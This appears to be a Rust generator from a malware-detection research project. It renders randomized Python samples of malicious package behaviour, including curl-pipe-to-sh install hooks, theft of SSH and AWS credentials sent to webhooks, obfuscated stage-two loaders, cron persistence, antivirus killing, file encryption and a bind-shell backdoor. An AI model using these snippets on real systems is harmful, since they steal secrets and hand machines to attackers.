@@ -1,0 +1,513 @@
+//! Malicious-behavior snippet templates.
+//!
+//! One template per taxonomy subcategory of Table XII (metadata
+//! subcategories are realized in [`crate::families::MetadataStyle`]
+//! instead of code). Each template renders a parameterized Python snippet:
+//! variants of the same behavior share structure but differ in
+//! identifiers, hosts and payloads, which is exactly the variation the
+//! paper's clustering + multi-unit prompting is designed to generalize
+//! over.
+
+use rand::rngs::StdRng;
+use rand::Rng;
+
+use crate::naming;
+
+/// A taxonomy tag: category and subcategory names follow Table XII.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub struct BehaviorTag {
+    /// Category name (one of the 11 in Table XII).
+    pub category: &'static str,
+    /// Subcategory name (one of the 38 in Table XII).
+    pub subcategory: &'static str,
+}
+
+/// The paper's taxonomy skeleton: 11 categories and their 38
+/// subcategories (Table XII).
+pub const CATEGORIES: &[(&str, &[&str])] = &[
+    ("Metadata Related", &[
+        "Package Metadata Manipulation",
+        "Version Number Deception",
+        "Fake Dependency Metadata",
+        "Author Information Spoofing",
+    ]),
+    ("Malicious Behavior", &[
+        "Privilege Escalation",
+        "Process Manipulation",
+        "System Configuration Changes",
+        "Persistence Mechanisms",
+    ]),
+    ("Dependency Library", &[
+        "System Library Abuse",
+        "Network Library Misuse",
+        "Crypto Library Exploitation",
+        "UI/Graphics Library Abuse",
+    ]),
+    ("Setup Code", &[
+        "Malicious Setup Scripts",
+        "Build Process Manipulation",
+        "Installation Hook Abuse",
+        "Configuration Tampering",
+    ]),
+    ("Network Related", &[
+        "C2 Communication",
+        "Data Exfiltration Channels",
+        "Malicious Downloads",
+        "DNS/Protocol Abuse",
+    ]),
+    ("Obfuscation & Anti-Detection", &[
+        "Code Obfuscation",
+        "Anti-Analysis Techniques",
+        "Sandbox Evasion",
+        "String/Pattern Hiding",
+    ]),
+    ("Data Exfiltration", &[
+        "Credential Theft",
+        "Environment Data Stealing",
+        "Configuration File Extraction",
+        "Sensitive Data Harvesting",
+    ]),
+    ("Code Execution", &[
+        "Shell Command Execution",
+        "Script Injection",
+        "Process Creation",
+    ]),
+    ("Application", &[
+        "Messaging Platform Abuse",
+        "Social Media API Exploitation",
+        "Cloud Service Misuse",
+        "Development Tool Abuse",
+    ]),
+    ("Malware Family", &[
+        "Known Trojan Families",
+        "Backdoor Families",
+    ]),
+    ("Other Rules", &[
+        "Unknown or Undetermined",
+    ]),
+];
+
+/// A code-behavior template.
+pub struct Behavior {
+    /// Taxonomy tag.
+    pub tag: BehaviorTag,
+    /// Renders one randomized variant of the behavior.
+    pub render: fn(&mut StdRng) -> String,
+}
+
+impl std::fmt::Debug for Behavior {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Behavior").field("tag", &self.tag).finish()
+    }
+}
+
+const fn tag(category: &'static str, subcategory: &'static str) -> BehaviorTag {
+    BehaviorTag {
+        category,
+        subcategory,
+    }
+}
+
+macro_rules! behavior {
+    ($cat:expr, $sub:expr, $f:ident) => {
+        Behavior {
+            tag: tag($cat, $sub),
+            render: $f,
+        }
+    };
+}
+
+/// The full behavior catalog, indexed by families.
+pub static BEHAVIORS: &[Behavior] = &[
+    behavior!("Malicious Behavior", "Privilege Escalation", privilege_escalation),
+    behavior!("Malicious Behavior", "Process Manipulation", process_manipulation),
+    behavior!("Malicious Behavior", "System Configuration Changes", system_config_changes),
+    behavior!("Malicious Behavior", "Persistence Mechanisms", persistence),
+    behavior!("Dependency Library", "System Library Abuse", system_library_abuse),
+    behavior!("Dependency Library", "Network Library Misuse", network_library_misuse),
+    behavior!("Dependency Library", "Crypto Library Exploitation", crypto_exploitation),
+    behavior!("Dependency Library", "UI/Graphics Library Abuse", ui_library_abuse),
+    behavior!("Setup Code", "Malicious Setup Scripts", malicious_setup_script),
+    behavior!("Setup Code", "Build Process Manipulation", build_process_manipulation),
+    behavior!("Setup Code", "Installation Hook Abuse", install_hook_abuse),
+    behavior!("Setup Code", "Configuration Tampering", config_tampering),
+    behavior!("Network Related", "C2 Communication", c2_communication),
+    behavior!("Network Related", "Data Exfiltration Channels", exfil_channel),
+    behavior!("Network Related", "Malicious Downloads", malicious_download),
+    behavior!("Network Related", "DNS/Protocol Abuse", dns_abuse),
+    behavior!("Obfuscation & Anti-Detection", "Code Obfuscation", code_obfuscation),
+    behavior!("Obfuscation & Anti-Detection", "Anti-Analysis Techniques", anti_analysis),
+    behavior!("Obfuscation & Anti-Detection", "Sandbox Evasion", sandbox_evasion),
+    behavior!("Obfuscation & Anti-Detection", "String/Pattern Hiding", string_hiding),
+    behavior!("Data Exfiltration", "Credential Theft", credential_theft),
+    behavior!("Data Exfiltration", "Environment Data Stealing", env_stealing),
+    behavior!("Data Exfiltration", "Configuration File Extraction", config_extraction),
+    behavior!("Data Exfiltration", "Sensitive Data Harvesting", data_harvesting),
+    behavior!("Code Execution", "Shell Command Execution", shell_execution),
+    behavior!("Code Execution", "Script Injection", script_injection),
+    behavior!("Code Execution", "Process Creation", process_creation),
+    behavior!("Application", "Messaging Platform Abuse", messaging_abuse),
+    behavior!("Application", "Social Media API Exploitation", social_media_abuse),
+    behavior!("Application", "Cloud Service Misuse", cloud_misuse),
+    behavior!("Application", "Development Tool Abuse", devtool_abuse),
+    behavior!("Malware Family", "Known Trojan Families", trojan_family),
+    behavior!("Malware Family", "Backdoor Families", backdoor_family),
+];
+
+/// Finds a behavior index by subcategory name.
+pub fn behavior_index(subcategory: &str) -> Option<usize> {
+    BEHAVIORS.iter().position(|b| b.tag.subcategory == subcategory)
+}
+
+// ---- template functions ----
+
+fn privilege_escalation(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    format!(
+        "def {f}():\n    import os\n    try:\n        os.setuid(0)\n        os.setgid(0)\n    except OSError:\n        os.system('sudo -n true')\n"
+    )
+}
+
+fn process_manipulation(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let target = naming::pick(rng, &["defender", "avp", "clamav", "sentinel"]);
+    format!(
+        "def {f}():\n    import os, signal\n    for line in os.popen('ps ax').readlines():\n        if '{target}' in line:\n            pid = int(line.split()[0])\n            os.kill(pid, signal.SIGKILL)\n"
+    )
+}
+
+fn system_config_changes(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    format!(
+        "def {f}():\n    with open('/etc/hosts', 'a') as hosts:\n        hosts.write('127.0.0.1 security-updates.example\\n')\n        hosts.write('0.0.0.0 {host}\\n')\n"
+    )
+}
+
+fn persistence(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let path = naming::ident(rng);
+    format!(
+        "def {f}():\n    import os\n    cron = '@reboot python3 /tmp/.{path}.py'\n    os.system('(crontab -l; echo \"' + cron + '\") | crontab -')\n    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n        rc.write('python3 /tmp/.{path}.py &\\n')\n"
+    )
+}
+
+fn system_library_abuse(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    format!(
+        "def {f}(shellcode):\n    import ctypes\n    buf = ctypes.create_string_buffer(shellcode)\n    ptr = ctypes.cast(buf, ctypes.c_void_p).value\n    ctypes.windll.kernel32.VirtualAlloc(0, len(shellcode), 0x3000, 0x40)\n    ctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)\n"
+    )
+}
+
+fn network_library_misuse(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let ip = naming::c2_ip(rng);
+    let port = rng.gen_range(4000..9999);
+    format!(
+        "def {f}():\n    import socket\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect(('{ip}', {port}))\n    s.send(b'hello')\n    return s.recv(4096)\n"
+    )
+}
+
+fn crypto_exploitation(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    format!(
+        "def {f}(root):\n    import os\n    from cryptography.fernet import Fernet\n    key = Fernet.generate_key()\n    cipher = Fernet(key)\n    for dirpath, _dirs, files in os.walk(root):\n        for name in files:\n            path = os.path.join(dirpath, name)\n            with open(path, 'rb') as fh:\n                data = fh.read()\n            with open(path, 'wb') as fh:\n                fh.write(cipher.encrypt(data))\n"
+    )
+}
+
+fn ui_library_abuse(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    format!(
+        "def {f}():\n    from PIL import ImageGrab\n    import requests\n    shot = ImageGrab.grab()\n    shot.save('/tmp/.cap.png')\n    requests.post('https://{host}/upload', files={{'shot': open('/tmp/.cap.png', 'rb')}})\n"
+    )
+}
+
+fn malicious_setup_script(rng: &mut StdRng) -> String {
+    let cls = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    format!(
+        "from setuptools.command.install import install\n\nclass {cls}_install(install):\n    def run(self):\n        install.run(self)\n        import os\n        os.system('curl -s https://{host}/bootstrap.sh | sh')\n"
+    )
+}
+
+fn build_process_manipulation(rng: &mut StdRng) -> String {
+    let cls = naming::ident(rng);
+    format!(
+        "from setuptools.command.egg_info import egg_info\n\nclass {cls}_egg(egg_info):\n    def run(self):\n        import subprocess\n        subprocess.call(['python', '-c', 'import urllib.request as u; exec(u.urlopen(\"http://bootstrap.local/x\").read())'])\n        egg_info.run(self)\n"
+    )
+}
+
+fn install_hook_abuse(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    format!(
+        "import atexit\n\ndef {f}():\n    import os\n    os.system('wget -q https://{host}/post-install.py -O /tmp/.pi.py && python3 /tmp/.pi.py')\n\natexit.register({f})\n"
+    )
+}
+
+fn config_tampering(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    format!(
+        "def {f}():\n    import os\n    pip_conf = os.path.expanduser('~/.pip/pip.conf')\n    os.makedirs(os.path.dirname(pip_conf), exist_ok=True)\n    with open(pip_conf, 'w') as fh:\n        fh.write('[global]\\nindex-url = https://{host}/simple\\n')\n"
+    )
+}
+
+fn c2_communication(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    let sleep = rng.gen_range(10..120);
+    format!(
+        "def {f}():\n    import requests, time\n    while True:\n        try:\n            cmd = requests.get('https://{host}/tasks', timeout=5).text\n            if cmd:\n                import os\n                os.system(cmd)\n        except Exception:\n            pass\n        time.sleep({sleep})\n"
+    )
+}
+
+fn exfil_channel(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let url = naming::webhook_url(rng);
+    format!(
+        "def {f}(payload):\n    import requests, json\n    requests.post('{url}', json={{'content': json.dumps(payload)}})\n"
+    )
+}
+
+fn malicious_download(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    let name = naming::ident(rng);
+    format!(
+        "def {f}():\n    import urllib.request, os\n    urllib.request.urlretrieve('http://{host}/{name}.bin', '/tmp/.{name}')\n    os.chmod('/tmp/.{name}', 0o755)\n    os.system('/tmp/.{name} &')\n"
+    )
+}
+
+fn dns_abuse(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    format!(
+        "def {f}(chunk):\n    import socket\n    label = chunk.hex()[:40]\n    try:\n        socket.gethostbyname(label + '.{host}')\n    except socket.gaierror:\n        pass\n"
+    )
+}
+
+fn code_obfuscation(rng: &mut StdRng) -> String {
+    let host = naming::c2_domain(rng);
+    let inner = format!(
+        "import os;os.system('curl -s https://{host}/stage2 | sh')"
+    );
+    let encoded = digest::base64::encode(inner.as_bytes());
+    format!("import base64\nexec(base64.b64decode('{encoded}'))\n")
+}
+
+fn anti_analysis(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    format!(
+        "def {f}():\n    import sys, time\n    if sys.gettrace() is not None:\n        sys.exit(0)\n    start = time.time()\n    time.sleep(2)\n    if time.time() - start < 1.5:\n        sys.exit(0)\n"
+    )
+}
+
+fn sandbox_evasion(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    format!(
+        "def {f}():\n    import os, uuid\n    mac = uuid.getnode()\n    vm_prefixes = ('080027', '000c29', '005056')\n    if format(mac, '012x')[:6] in vm_prefixes:\n        os._exit(0)\n    if os.environ.get('USERNAME', '').lower() in ('sandbox', 'maltest', 'virus'):\n        os._exit(0)\n"
+    )
+}
+
+fn string_hiding(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let word = naming::pick(rng, &["token", "secret", "wallet", "passwd"]);
+    let parts: Vec<String> = word.bytes().map(|b| format!("chr({b})")).collect();
+    format!(
+        "def {f}():\n    key = {}\n    return ''.join([{}])\n",
+        "''",
+        parts.join(", ")
+    )
+}
+
+fn credential_theft(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let url = naming::webhook_url(rng);
+    format!(
+        "def {f}():\n    import os, requests\n    targets = ['~/.aws/credentials', '~/.ssh/id_rsa', '~/.netrc']\n    loot = {{}}\n    for t in targets:\n        path = os.path.expanduser(t)\n        if os.path.exists(path):\n            loot[t] = open(path).read()\n    requests.post('{url}', json=loot)\n"
+    )
+}
+
+fn env_stealing(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    format!(
+        "def {f}():\n    import os, requests\n    env = dict(os.environ)\n    requests.post('https://{host}/collect', json=env)\n"
+    )
+}
+
+fn config_extraction(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let url = naming::webhook_url(rng);
+    format!(
+        "def {f}():\n    import os, requests\n    for name in ('.pypirc', '.npmrc', '.gitconfig'):\n        path = os.path.join(os.path.expanduser('~'), name)\n        if os.path.isfile(path):\n            requests.post('{url}', data=open(path, 'rb').read())\n"
+    )
+}
+
+fn data_harvesting(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    format!(
+        "def {f}():\n    import platform, getpass, socket, requests\n    info = {{\n        'user': getpass.getuser(),\n        'host': socket.gethostname(),\n        'os': platform.platform(),\n        'cwd': __file__,\n    }}\n    requests.post('https://{host}/fp', json=info)\n"
+    )
+}
+
+fn shell_execution(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    let tool = naming::pick(rng, &["curl -s", "wget -qO-"]);
+    format!(
+        "def {f}():\n    import os\n    os.system('{tool} https://{host}/run.sh | sh')\n"
+    )
+}
+
+fn script_injection(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let host = naming::c2_domain(rng);
+    format!(
+        "def {f}():\n    import os, site\n    for pkg_dir in site.getsitepackages():\n        target = os.path.join(pkg_dir, 'requests', '__init__.py')\n        if os.path.exists(target):\n            with open(target, 'a') as fh:\n                fh.write('\\nimport urllib.request as _u; exec(_u.urlopen(\"https://{host}/inj\").read())\\n')\n"
+    )
+}
+
+fn process_creation(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    format!(
+        "def {f}(cmd):\n    import subprocess\n    return subprocess.Popen(cmd, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+    )
+}
+
+fn messaging_abuse(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    format!(
+        "def {f}():\n    import os, re, requests\n    roaming = os.path.expanduser('~/AppData/Roaming/discord/Local Storage/leveldb')\n    tokens = []\n    if os.path.isdir(roaming):\n        for name in os.listdir(roaming):\n            data = open(os.path.join(roaming, name), errors='ignore').read()\n            tokens += re.findall(r'[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{27}}', data)\n    return tokens\n"
+    )
+}
+
+fn social_media_abuse(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    format!(
+        "def {f}(token, text):\n    import requests\n    requests.post('https://api.twitter.com/2/tweets', headers={{'Authorization': 'Bearer ' + token}}, json={{'text': text}})\n"
+    )
+}
+
+fn cloud_misuse(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let bucket = naming::ident(rng);
+    format!(
+        "def {f}():\n    import boto3\n    s3 = boto3.client('s3')\n    creds = boto3.Session().get_credentials()\n    s3.put_object(Bucket='{bucket}-drop', Key='keys.txt', Body=str(creds.access_key) + ':' + str(creds.secret_key))\n"
+    )
+}
+
+fn devtool_abuse(rng: &mut StdRng) -> String {
+    let f = naming::ident(rng);
+    let url = naming::webhook_url(rng);
+    format!(
+        "def {f}():\n    import subprocess, requests\n    email = subprocess.check_output(['git', 'config', 'user.email']).decode()\n    remotes = subprocess.check_output(['git', 'remote', '-v']).decode()\n    requests.post('{url}', json={{'email': email, 'remotes': remotes}})\n"
+    )
+}
+
+fn trojan_family(rng: &mut StdRng) -> String {
+    let host = naming::c2_domain(rng);
+    format!(
+        "# w4sp-stage\n__w4sp__ = 'wasp-stealer'\n\ndef inject():\n    import requests\n    src = requests.get('https://{host}/w4sp/inject.py').text\n    exec(compile(src, 'inject', 'exec'))\n"
+    )
+}
+
+fn backdoor_family(rng: &mut StdRng) -> String {
+    let port = rng.gen_range(4000..9999);
+    format!(
+        "def serve():\n    import socket, subprocess\n    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    srv.bind(('0.0.0.0', {port}))\n    srv.listen(1)\n    while True:\n        conn, _addr = srv.accept()\n        data = conn.recv(1024).decode()\n        out = subprocess.run(data, shell=True, capture_output=True)\n        conn.send(out.stdout + out.stderr)\n"
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rand::SeedableRng;
+    use std::collections::HashSet;
+
+    #[test]
+    fn taxonomy_has_11_categories_and_38_subcategories() {
+        assert_eq!(CATEGORIES.len(), 11);
+        let total: usize = CATEGORIES.iter().map(|(_, subs)| subs.len()).sum();
+        assert_eq!(total, 38);
+    }
+
+    #[test]
+    fn every_behavior_tag_is_in_the_taxonomy() {
+        for b in BEHAVIORS {
+            let (_, subs) = CATEGORIES
+                .iter()
+                .find(|(c, _)| *c == b.tag.category)
+                .unwrap_or_else(|| panic!("category {} missing", b.tag.category));
+            assert!(
+                subs.contains(&b.tag.subcategory),
+                "subcategory {} missing",
+                b.tag.subcategory
+            );
+        }
+    }
+
+    #[test]
+    fn all_code_subcategories_covered() {
+        // 38 total minus 4 metadata subcategories minus "Unknown" = 33.
+        assert_eq!(BEHAVIORS.len(), 33);
+        let unique: HashSet<&str> = BEHAVIORS.iter().map(|b| b.tag.subcategory).collect();
+        assert_eq!(unique.len(), 33);
+    }
+
+    #[test]
+    fn snippets_render_and_parse() {
+        let mut rng = StdRng::seed_from_u64(9);
+        for b in BEHAVIORS {
+            let code = (b.render)(&mut rng);
+            assert!(!code.is_empty(), "{} rendered empty", b.tag.subcategory);
+            let module = pysrc::parse_module(&code);
+            assert!(!module.body.is_empty(), "{} unparsable", b.tag.subcategory);
+        }
+    }
+
+    #[test]
+    fn variants_differ_but_share_apis() {
+        let mut rng = StdRng::seed_from_u64(10);
+        let c2 = &BEHAVIORS[behavior_index("C2 Communication").expect("present")];
+        let a = (c2.render)(&mut rng);
+        let b = (c2.render)(&mut rng);
+        assert_ne!(a, b);
+        assert!(a.contains("requests.get"));
+        assert!(b.contains("requests.get"));
+    }
+
+    #[test]
+    fn obfuscation_payload_decodes() {
+        let mut rng = StdRng::seed_from_u64(11);
+        let ob = &BEHAVIORS[behavior_index("Code Obfuscation").expect("present")];
+        let code = (ob.render)(&mut rng);
+        let b64 = code
+            .split('\'')
+            .nth(1)
+            .expect("encoded payload between quotes");
+        let decoded = digest::base64::decode(b64).expect("valid base64");
+        let text = String::from_utf8(decoded).expect("utf8");
+        assert!(text.contains("os.system"));
+    }
+
+    #[test]
+    fn behavior_index_lookup() {
+        assert!(behavior_index("C2 Communication").is_some());
+        assert!(behavior_index("Nonexistent").is_none());
+    }
+
+    #[test]
+    fn deterministic_rendering() {
+        let idx = behavior_index("Credential Theft").expect("present");
+        let mut a = StdRng::seed_from_u64(5);
+        let mut b = StdRng::seed_from_u64(5);
+        assert_eq!(
+            (BEHAVIORS[idx].render)(&mut a),
+            (BEHAVIORS[idx].render)(&mut b)
+        );
+    }
+}
